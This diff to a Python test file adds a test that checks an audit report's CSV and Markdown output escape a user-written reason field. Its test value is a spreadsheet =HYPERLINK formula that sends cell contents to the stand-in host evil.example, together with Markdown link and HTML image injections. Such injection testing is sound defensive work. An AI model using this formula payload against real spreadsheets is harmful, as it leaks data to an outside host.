@@ -11,6 +11,7 @@ import csv
 import gzip
 import io
 import json
+import re
 from collections import Counter
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -426,6 +427,20 @@ def test_csv_one_row_per_access(summary: Summary) -> None:
     assert g1["reason"] == "lost phone, release 2.1 blocked"
     assert g1["approvers"] == "userpass-bob; userpass-carol"
     assert rows == sorted(rows, key=lambda r: r["time"])
+
+
+def test_reasons_open_as_text_in_a_spreadsheet_and_in_markdown(summary: Summary) -> None:
+    """A requester writes the reason; the auditor opens the CSV in a spreadsheet and the Markdown in a viewer."""
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"audit ok") see [docs](https://evil.example) <img src=x> `x`'
+    first = summary.reveals[0].model_copy(update={"reason": evil})
+    changed = summary.model_copy(update={"reveals": [first, *summary.reveals[1:]]})
+    rows = list(csv.DictReader(io.StringIO(render(changed, "csv"))))
+    cell = next(r["reason"] for r in rows if r["grant_id"] == first.grant_id and r["kind"] == "reveal")
+    assert cell == "'" + evil  # text, not a formula
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
+    md = render(changed, "markdown")
+    assert "\\[docs\\](https://evil.example)" in md and "\\<img src=x\\>" in md and "\\`x\\`" in md
+    assert not re.search(r"(?<!\\)\[docs|(?<!\\)<img", md)  # nothing left unescaped
 
 
 def test_html_is_self_contained(summary: Summary) -> None:
